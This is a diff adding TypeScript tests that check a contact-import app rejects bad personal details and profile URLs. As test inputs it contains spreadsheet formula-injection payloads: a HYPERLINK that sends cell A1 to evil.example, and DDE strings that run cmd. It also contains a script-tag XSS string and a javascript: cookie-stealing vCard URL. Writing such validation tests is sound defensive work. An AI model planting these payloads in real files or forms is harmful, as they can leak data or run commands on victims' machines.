@@ -335,3 +335,75 @@ describe('7. an export that would remove a large share of the connections says s
     expect(await removal(30, 28)).toEqual({ removed: 2, warned: false });
   });
 });
+
+describe("8. the user's own details and profile URLs are validated on input", () => {
+  it('details:set refuses a formula as a mobile number and markup as an email, saving nothing', async () => {
+    const service = new AppService({ dbPath: join(tempDir(), 'a.db'), now: () => NOW }, { transport: 'browser' });
+    try {
+      const saved = await service.dispatch('details:set', {
+        details: [
+          { field: 'mobile', value: '+49 (0)171 555-0100' },
+          { field: 'privateEmail', value: 'ich.selbst@gmx.de' },
+          { field: 'birthday', value: '07.03.1980' },
+        ],
+      });
+      expect(saved).toMatchObject({
+        ok: true,
+        value: {
+          details: expect.arrayContaining([expect.objectContaining({ field: 'birthday', value: '1980-03-07' })]),
+        },
+      });
+      const before = loadAuditInput(service.db).myDetails;
+      for (const [field, value] of [
+        ['mobile', '=HYPERLINK("https://evil.example/?"&A1,"Anrufen")'],
+        ['privateEmail', '<script>alert(1)</script>@gmx.de'],
+        ['businessEmail', '=cmd|"/C calc"!A0@firma.de'],
+        ['birthday', '31.02.1980'],
+        ['address', '@SUM(1+1)*cmd|"/C calc"!A0'],
+      ] as const) {
+        expect(await service.dispatch('details:set', { details: [{ field, value }] })).toMatchObject({
+          ok: false,
+          error: { code: 'BAD_REQUEST', messageId: 'error.badDetail', values: { field } },
+        });
+      }
+      expect(loadAuditInput(service.db).myDetails).toEqual(before);
+    } finally {
+      service.close();
+    }
+  });
+
+  it("an export's formula phone number and markup email are skipped with a warning", async () => {
+    const phones = 'Extension,Number,Type\n,=HYPERLINK("https://evil.example"),Mobile\n,+49 171 5550100,Mobile\n';
+    const emails =
+      'Email Address,Confirmed,Primary,Updated On\n<script>alert(1)</script>@gmx.de,Yes,Yes,\nich@gmx.de,Yes,No,\n';
+    const { summary, input } = await importFiles([
+      memoryFile('PhoneNumbers.csv', phones),
+      memoryFile('Email Addresses.csv', emails),
+    ]);
+    expect(input.myDetails.map((d) => d.value).sort()).toEqual(['+49 171 5550100', 'ich@gmx.de']);
+    expect(summary.warnings).toEqual([
+      'PhoneNumbers.csv, line 2: "=HYPERLINK("https://evil.example")" is not a phone number, skipped',
+      'Email Addresses.csv, line 2: "<script>alert(1)</script>@gmx.de" is not an email address, skipped',
+    ]);
+  });
+
+  it("a XING vCard's javascript: URL is not kept as its profile URL; an https one is", async () => {
+    const card = (name: string, url: string) =>
+      ['BEGIN:VCARD', 'VERSION:2.1', 'PRODID:-//XING//www.xing.com//DE', `FN:${name}`, `URL:${url}`, 'END:VCARD'].join(
+        '\r\n',
+      );
+    const { summary, input } = await importFiles([
+      memoryFile(
+        'evil.vcf',
+        card('Eve Böse', 'javascript:alert(document.cookie)//www.xing.com/profile/Eve_Boese'),
+        true,
+      ),
+      memoryFile('good.vcf', card('Gut Mensch', 'https://www.xing.com/profile/Gut_Mensch'), true),
+    ]);
+    expect(input.contacts.map((c) => [c.name, c.profileUrl])).toEqual([
+      ['Eve Böse', null],
+      ['Gut Mensch', 'https://www.xing.com/profile/Gut_Mensch'],
+    ]);
+    expect(summary.warnings).toEqual(['evil.vcf, line 1: a URL that is not http(s), ignored']);
+  });
+});
